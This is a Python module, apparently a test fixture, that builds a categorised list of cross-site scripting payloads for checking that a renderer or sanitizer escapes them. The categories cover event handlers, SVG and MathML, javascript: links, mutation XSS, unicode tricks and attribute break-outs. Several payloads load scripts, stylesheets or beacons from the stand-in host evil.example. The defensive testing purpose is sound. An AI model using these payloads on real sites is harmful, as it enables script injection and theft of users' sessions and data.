"""Texts that would run in a browser, were they not escaped: by their classes, each calling `xss(its number)`."""

from __future__ import annotations

from itertools import count

_number = count(1)


def _filled(template: str) -> str:
    return template.replace("XSS", f"xss({next(_number)})")


# ruff: noqa: E501 - a payload is easier to read in one piece
_HANDLERS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbeforetoggle", "oncontentvisibilityautostatechange"]  # fmt: skip
_BREAKS = ['"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</option></select>", "</pre></code>", "`", "\u2028", "\\"]
_CLASSES = {
    "script tags": [
        "<script>XSS</script>", "<SCRIPT>XSS</SCRIPT>", "<script >XSS</script >", "<script/x>XSS</script>", "<scr<script>ipt>XSS</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>", "<script>XSS//", "<script\n>XSS</script\n>", "<script type=module>XSS</script>", "<<script>XSS//<</script>",
    ],
    "event handlers": [f"<img src=x {name}=XSS>" for name in _HANDLERS] + [
        "<input autofocus onfocus=XSS>", "<details open ontoggle=XSS>", "<video><source onerror=XSS></video>", "<body onload=XSS>", "<audio src=x onerror=XSS>",
        "<marquee onstart=XSS>", "<img/src=x/onerror=XSS>", "<img src=x onerror\n=XSS>", "<img src=x oneonerrorrror=XSS>", "<iframe onload=XSS></iframe>",
        "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=XSS>", "<style onload=XSS></style>", "<object data=x onerror=XSS></object>",
    ],
    "svg and math": [
        "<svg onload=XSS>", "<svg/onload=XSS>", "<svg><script>XSS</script></svg>", "<svg><animate onbegin=XSS attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:XSS><text x=9 y=9>x</text></a></svg>", "<svg><set onbegin=XSS attributeName=x>", "<svg><foreignObject><img src=x onerror=XSS>",
        "<math><mtext><mglyph><style><img src=x onerror=XSS></style></mglyph></mtext></math>", "<math href=javascript:XSS>x</math>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=XSS /></svg>#x'/></svg>",
    ],
    "links": [
        "[a](javascript:XSS)", "[a](JaVaScRiPt:XSS)", "[a](java\tscript:XSS)", "[a](&#106;avascript:XSS)", "<javascript:XSS>", "[a]: javascript:XSS\n\n[a]",
        "![a](javascript:XSS)", "![a](x\"onerror=\"XSS)", "[a](data:text/html,<script>XSS</script>)", "[a](data:text/html;base64,PHNjcmlwdD4=XSS)",
        "[a](vbscript:XSS)", '<a href="javascript:XSS">a</a>', "[a](https://x.example/\" onmouseover=\"XSS)", "[a](https://x.example 'x\" onmouseover=\"XSS')",
        "http://x.example/\"onmouseover=\"XSS", "[<img src=x onerror=XSS>](https://x.example)", "`<img src=x onerror=XSS>`", "```\"><script>XSS</script>\n```",
        "| a |\n|---|\n| <img src=x onerror=XSS> |", "[a](javascript&colon;XSS)", "[a](\x01javascript:XSS)", "<a href=\" javascript:XSS\">a</a>",
    ],
    "frames and forms": [
        "<iframe srcdoc='<script>parent.XSS</script>'></iframe>", "<iframe src=javascript:parent.XSS></iframe>", "<form action=javascript:XSS><button>a</button></form>",
        "<button formaction=javascript:XSS>a</button>", "<embed src=javascript:XSS>", "<object data=javascript:XSS></object>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:XSS'>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<isindex action=javascript:XSS type=image>", "<template><script>XSS</script></template>", "<portal src=javascript:XSS>",
    ],
    "templates": ["{{constructor.constructor('XSS')()}}", "${XSS}", "{{7*7}}{{config}}", "{%print(1)%}", "#{XSS}", "<%= XSS %>", "{{'a'.constructor.prototype.charAt=[].join;}}"],
    "mutation": [
        "<noscript><p title=\"</noscript><img src=x onerror=XSS>\">", "<svg></p><style><a id=\"</style><img src=x onerror=XSS>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=XSS&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=XSS>",
        "<a title=\"`><img src=x onerror=XSS>\">", "<select><style></select><img src=x onerror=XSS></style>", "<!--><img src=x onerror=XSS>-->", "<![CDATA[><img src=x onerror=XSS>]]>",
        "<textarea><img title=\"</textarea><img src=x onerror=XSS>\">", "<xmp><img title=\"</xmp><img src=x onerror=XSS>\">",
    ],
    "unicode": [
        "\uff1cscript\uff1eXSS\uff1c/script\uff1e", "<scr\u0000ipt>XSS</scr\u0000ipt>", "<img src=x on\u0131error=XSS>", "%3Cscript%3EXSS%3C/script%3E", "&lt;script&gt;XSS&lt;/script&gt;",
        "&#60;script&#62;XSS&#60;/script&#62;", "\\u003cscript\\u003eXSS\\u003c/script\\u003e", "\u202e<script>XSS</script>", "+ADw-script+AD4-XSS+ADw-/script+AD4-", "<\u017fcript>XSS</\u017fcript>",
    ],
    "breaking out": [f"{end}<img src=x onerror=XSS>" for end in _BREAKS] + ['" onmouseover="XSS', "' onmouseover='XSS", '" autofocus onfocus="XSS', "x' style='animation:a' onanimationstart='XSS", '";XSS;//', "';XSS;//", "*/XSS/*"],
    "css": [
        "<style>@import '//evil.example/x.css';</style>", "<p style=background:url(//evil.example/x.png)>", "<style>*{background:url(//evil.example/y.png)}</style>",
        "</style><script>XSS</script>", "<p style=\"width:expression(XSS)\">", "<link rel=prefetch href=//evil.example/z>", "<img srcset=//evil.example/s.png>", "<video poster=//evil.example/p.png>",
    ],
}  # fmt: skip
PAYLOADS = [_filled(template) for templates in _CLASSES.values() for template in templates]
